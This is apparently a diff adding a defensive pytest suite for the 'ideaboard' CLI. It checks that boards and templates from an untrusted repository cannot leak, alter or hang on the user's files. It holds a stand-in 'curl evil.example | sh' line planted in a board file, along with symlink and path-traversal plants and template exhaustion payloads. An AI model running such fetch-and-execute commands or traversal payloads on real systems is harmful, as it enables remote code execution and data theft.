@@ -1,0 +1,389 @@
+"""A folder that a stranger filled: under every name of ours lies what should not, and every command runs in it."""
+
+from __future__ import annotations
+
+import os
+import shutil
+import signal
+import stat
+import subprocess
+import sys
+import time
+from collections.abc import Callable, Iterator
+from contextlib import contextmanager
+from pathlib import Path
+
+import pytest
+from cli.cli_runs import Done, assert_told, here
+
+from ideaboard.publish import apart
+
+SECRET = "the victim's own words"
+NOBODY = 65534
+SHELL = b"curl evil.example | sh"
+"""A last line that is torn, and would be a command in a start file."""
+
+as_root = pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() != 0, reason="only root makes others' files")
+
+
+def link(path: Path, home: Path) -> None:
+    path.symlink_to(home / "secret.txt")
+
+
+def dangling_link(path: Path, home: Path) -> None:
+    path.symlink_to(home / "made.txt")
+
+
+def link_to_folder(path: Path, home: Path) -> None:
+    path.symlink_to(home / "private")
+
+
+def endless_link(path: Path, _: Path) -> None:
+    path.symlink_to(path.name)
+
+
+def second_name(path: Path, home: Path) -> None:
+    os.link(home / "secret.txt", path)
+
+
+def pipe(path: Path, _: Path) -> None:
+    os.mkfifo(path)
+
+
+def folder(path: Path, _: Path) -> None:
+    path.mkdir()
+
+
+def forbidden(path: Path, _: Path) -> None:
+    path.mkdir(0)
+
+
+def another_users(path: Path, _: Path) -> None:
+    path.write_text("not yours\n")
+    os.chown(path, NOBODY, NOBODY)
+
+
+def device(path: Path, _: Path) -> None:
+    os.mknod(path, stat.S_IFCHR | 0o666, os.makedev(1, 5))  # as /dev/zero, which never ends
+
+
+Plant = Callable[[Path, Path], None]
+PLANTS: list[object] = [link, dangling_link, link_to_folder, endless_link, pipe, folder, forbidden]
+PLANTS += [pytest.param(one, marks=as_root) for one in (another_users, device)]
+BESIDE = ("board.jsonl.lock", "board.jsonl.torn", "board.jsonl.new", "templates", "templates/summary.md")
+NAMES = [f".ideaboard/{name}" for name in BESIDE] + [
+    "templates",
+    "config.toml",
+    "README.md",
+    "out.md",
+    "out",
+    "first.md",
+]
+COMMANDS = """
+add second
+add - -k post
+list --json
+show FIRST
+edit FIRST --notes n
+move FIRST next
+archive FIRST
+restore FIRST
+undo
+redo
+log
+stats
+share FIRST --url https://example.org --summary s
+response add FIRST question why
+draft FIRST
+draft FIRST --dir out
+draft FIRST --template first.md
+check FIRST
+templates list
+templates show summary.md
+changelog
+changelog -o out.md
+changelog -o out/new.md
+changelog --format html -o out.md --force
+changelog --into README.md
+changelog --into README.md --diff
+changelog -o out.md --diff
+export json
+export json -o out.md
+export csv -o out.md --force
+export bibtex -o out/new.bib
+import out.md
+import README.md
+config show
+keys
+arxiv watch add w x
+arxiv watch list
+trust --list
+demo --write out.md
+demo --write out/board.jsonl
+compact
+check
+check --repair
+add third
+delete FIRST -y
+"""
+
+
+@contextmanager
+def soon(seconds: int = 60) -> Iterator[None]:
+    """End what hangs."""
+
+    def ended(*_: object) -> None:
+        raise TimeoutError("it hangs")
+
+    before = signal.signal(signal.SIGALRM, ended)
+    signal.alarm(seconds)
+    try:
+        yield
+    finally:
+        signal.alarm(0)
+        signal.signal(signal.SIGALRM, before)
+
+
+def tree(top: Path) -> dict[str, object]:
+    """Return all that lies below a folder; links are not followed."""
+    found: dict[str, object] = {}
+    for place, folders, names in os.walk(top):
+        for path in (Path(place, name) for name in (*folders, *names)):
+            status = path.lstat()
+            content = path.read_bytes() if stat.S_ISREG(status.st_mode) else None
+            found[str(path)] = (
+                stat.S_IFMT(status.st_mode),
+                status.st_mode,
+                content,
+                status.st_mtime_ns if content else 0,
+            )
+    return found
+
+
+@pytest.fixture
+def victim(own_home: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """A home folder with what must stay as it is and must not be seen; the program's own places are elsewhere."""
+    home = own_home / "victim"
+    (home / "private").mkdir(parents=True)
+    (home / "secret.txt").write_text(f"{SECRET}\n")
+    (home / "private" / "summary.md").write_text(f"{SECRET}\n")
+    monkeypatch.delenv("IDEABOARD_BOARD")
+    monkeypatch.setenv("EDITOR", "false")
+    monkeypatch.setenv("IDEABOARD_ARXIV_INTERVAL", "0")
+    return home
+
+
+@pytest.fixture
+def clone(own_home: Path, victim: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """A repository with a board in it, as it comes from a stranger; nothing of it is trusted."""
+    top = own_home / "clone"
+    (top / ".git").mkdir(parents=True)
+    board = top / ".ideaboard" / "board.jsonl"
+    here("--board", str(board), "add", "first", "-k", "summary")
+    monkeypatch.chdir(top)
+    (top / ".ideaboard" / "board.jsonl.lock").unlink()
+    with board.open("ab") as file:
+        file.write(SHELL)
+    return top
+
+
+def run_all(id: str) -> list[tuple[str, Done]]:
+    done = []
+    for line in COMMANDS.strip().split("\n"):
+        words = [id if word == "FIRST" else word for word in line.split()]
+        with soon():
+            done.append((line, here(*words, stdin=b"a title\n")))
+    return done
+
+
+def assert_nothing_leaked(done: list[tuple[str, Done]], clone: Path) -> None:
+    for line, one in done:
+        assert 0 <= one.code <= 6, (line, one.code, one.err)
+        assert "Traceback" not in one.err, line
+        assert SECRET not in one.out + one.err, line
+    for place, _, names in os.walk(clone):
+        for path in (Path(place, name) for name in names):
+            if stat.S_ISREG(path.lstat().st_mode):
+                assert SECRET.encode() not in path.read_bytes(), path
+
+
+@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="Windows has no such files")
+@pytest.mark.parametrize("name", NAMES)
+@pytest.mark.parametrize("plant", PLANTS)
+def test_nothing_outside_changes_and_nothing_hangs(name: str, plant: Plant, clone: Path, victim: Path) -> None:
+    id = here("list", "--json").json[0]["id"]
+    (clone / name).parent.mkdir(exist_ok=True)
+    plant(clone / name, victim)
+    before = tree(victim)
+    assert_nothing_leaked(run_all(id), clone)
+    assert tree(victim) == before
+
+
+@pytest.mark.parametrize(
+    "name", [".ideaboard/board.jsonl.lock", ".ideaboard/board.jsonl.torn", ".ideaboard/board.jsonl.new"]
+)
+def test_a_second_name_of_a_file_of_the_users_is_not_written_to(name: str, clone: Path, victim: Path) -> None:
+    id = here("list", "--json").json[0]["id"]
+    second_name(clone / name, victim)
+    run_all(id)
+    assert (victim / "secret.txt").read_text() == f"{SECRET}\n"
+
+
+@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="Windows has no such files")
+@pytest.mark.parametrize("name", [".ideaboard/board.jsonl", ".ideaboard"])
+@pytest.mark.parametrize("plant", PLANTS)
+def test_a_board_that_is_something_else_costs_nothing(name: str, plant: Plant, clone: Path, victim: Path) -> None:
+    (victim / "private" / "board.jsonl").write_bytes((clone / ".ideaboard" / "board.jsonl").read_bytes())
+    shutil.rmtree(clone / ".ideaboard")
+    (clone / name).parent.mkdir(exist_ok=True)
+    plant(clone / name, victim)
+    before = tree(victim)
+    assert_nothing_leaked(run_all("abcdefgh"), clone)
+    assert tree(victim) == before
+
+
+@pytest.mark.parametrize("how", ["file", "folder"])
+def test_a_board_that_is_a_link_out_of_its_repository_is_refused_until_it_is_trusted(
+    how: str, clone: Path, victim: Path
+) -> None:
+    board = clone / ".ideaboard" / "board.jsonl"
+    if how == "file":
+        board.rename(victim / "board.jsonl")
+        board.symlink_to(victim / "board.jsonl")
+    else:
+        board.parent.rename(victim / "theirs")
+        board.parent.symlink_to(victim / "theirs")
+    for arguments in (["list"], ["add", "x"], ["check"], ["check", "--repair"], ["compact"]):
+        assert_told(here(*arguments), 4, "a link that leads out of its repository", f"ideaboard trust {clone}")
+    assert here("config", "path").code == here("keys").code == 0
+    assert here("trust").out == f"'{clone}' is trusted now\n"
+    assert here("trust", "--list", "--json").json == [str(clone)]
+    assert here("add", "x").code == 0
+    assert here("trust", str(clone / ".ideaboard"), "--remove").code == 0
+    assert_told(here("list"), 4)
+    assert_told(here("trust", "--remove", str(clone)), 2, "is not trusted")
+    assert here("trust", "--list").out == ""
+
+
+def test_a_link_within_its_repository_and_one_of_the_users_own_are_fine(clone: Path, own_home: Path) -> None:
+    board = clone / ".ideaboard" / "board.jsonl"
+    board.rename(clone / "ideas.jsonl")
+    board.symlink_to("../ideas.jsonl")
+    assert here("add", "x").code == 0
+    assert len((clone / "ideas.jsonl").read_bytes().splitlines()) == 3
+    own = own_home / ".local" / "share" / "ideaboard" / "board.jsonl"
+    (own_home / "dotfiles").mkdir()
+    own.parent.mkdir(parents=True, exist_ok=True)
+    own.symlink_to(own_home / "dotfiles" / "board.jsonl")
+    os.chdir(own_home)
+    assert here("add", "mine").code == 0
+    assert own.is_symlink()
+    assert (own_home / "dotfiles" / "board.jsonl").is_file()
+
+
+@as_root
+@pytest.mark.parametrize("which", ["", ".ideaboard", ".ideaboard/board.jsonl"])
+def test_a_board_of_another_user_is_refused_until_it_is_trusted(
+    which: str, clone: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    os.chown(clone / which, NOBODY, NOBODY)
+    (clone / "src").mkdir()
+    monkeypatch.chdir(clone / "src")
+    content = (clone / ".ideaboard" / "board.jsonl").read_bytes()
+    for line in COMMANDS.strip().split("\n"):
+        if line.split()[0] not in ("config", "keys", "trust", "demo"):
+            assert_told(here(*line.split(), stdin=b"x"), 4, "another user", f"ideaboard trust {clone}")
+    assert (clone / ".ideaboard" / "board.jsonl").read_bytes() == content
+    monkeypatch.setenv("SUDO_UID", str(NOBODY))
+    assert here("list").code == 0
+    monkeypatch.delenv("SUDO_UID")
+    assert here("trust").code == 0
+    assert here("list").code == 0
+
+
+def test_only_a_folder_with_a_board_can_be_trusted(clone: Path, own_home: Path) -> None:
+    assert_told(here("trust", str(own_home)), 2, "there is no board")
+    (own_home / "a\nb" / ".ideaboard").mkdir(parents=True)
+    (own_home / "a\nb" / ".ideaboard" / "board.jsonl").touch()
+    assert_told(here("trust", str(own_home / "a\nb")), 2, "line break")
+    assert here("trust", str(clone)).code == here("trust", str(clone)).code == 0
+    assert here("trust", "--list").out == f"{clone}\n"
+
+
+@pytest.fixture
+def templates(clone: Path) -> Path:
+    """The templates of a stranger."""
+    folder = clone / ".ideaboard" / "templates"
+    (folder / "export").mkdir(parents=True)
+    return folder
+
+
+def test_templates_in_a_repository_do_not_run_until_it_is_trusted(templates: Path) -> None:
+    (templates / "export" / "changelog.md.j2").write_text("{{ 6 * 7 }}")
+    done = here("changelog")
+    assert done.out.startswith("# Shared")
+    assert f"the templates in '{templates}' are not used" in done.err
+    assert "ideaboard trust" in done.err
+    here("trust")
+    done = here("changelog")
+    assert (done.out, done.code) == ("42\n", 0)
+    assert "not used" not in done.err
+
+
+ENDLESS = "{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}"
+
+
+@pytest.mark.parametrize(
+    ("source", "said"),
+    [
+        (ENDLESS, "4 s"),
+        ("{{ 10 ** 10000000 }}", ""),
+        ("{{ '%99999999d' % 1 }}", "8 MB"),
+        ("{{ 'x'.ljust(9999999999) }}", "memory"),
+        ("{{ 'x' * 9999999999 }}", "memory"),
+        ("{% include 'secret' %}", "a link"),
+        ("{% include 'private/summary.md' %}", "a link"),
+        ("{% include '../../../victim/secret.txt' %}", "not there"),
+        ("{% extends self %}", ""),
+    ],
+)
+def test_a_template_takes_no_more_than_it_may(
+    source: str, said: str, templates: Path, victim: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(apart, "SECONDS", 4.0)
+    (templates / "secret").symlink_to(victim / "secret.txt")
+    (templates / "private").symlink_to(victim / "private")
+    (templates / "export" / "changelog.md.j2").write_text(source)
+    here("trust")
+    with soon():
+        done = here("changelog")
+    assert_told(done, 2, "template", said)
+    assert SECRET not in done.err
+
+
+@pytest.mark.skipif(not hasattr(os, "killpg"), reason="Windows has no such signals")
+@pytest.mark.parametrize("number", [signal.SIGINT, signal.SIGTERM])
+def test_a_template_can_be_ended(number: signal.Signals, templates: Path) -> None:
+    (templates / "export" / "changelog.md.j2").write_text(ENDLESS)
+    here("trust")
+    started = subprocess.Popen(
+        [sys.executable, "-m", "ideaboard", "changelog"],
+        stdout=subprocess.PIPE,
+        stderr=subprocess.STDOUT,
+        preexec_fn=lambda: signal.signal(signal.SIGINT, signal.default_int_handler),
+    )
+    children = Path(f"/proc/{started.pid}/task/{started.pid}/children")
+    with soon():
+        while children.exists() and not children.read_text():
+            time.sleep(0.02)
+        started.send_signal(number)
+        started.communicate()
+    assert started.returncode in (130, -number)
+
+
+def test_a_module_of_the_strangers_is_never_imported(templates: Path, clone: Path) -> None:
+    (templates / "export" / "changelog.md.j2").write_text("fine")
+    for name in ("jinja2", "ideaboard", "json", "pickle", "sitecustomize"):
+        (clone / f"{name}.py").write_text("raise SystemExit(99)")
+    here("trust")
+    assert here("changelog").out == "fine\n"
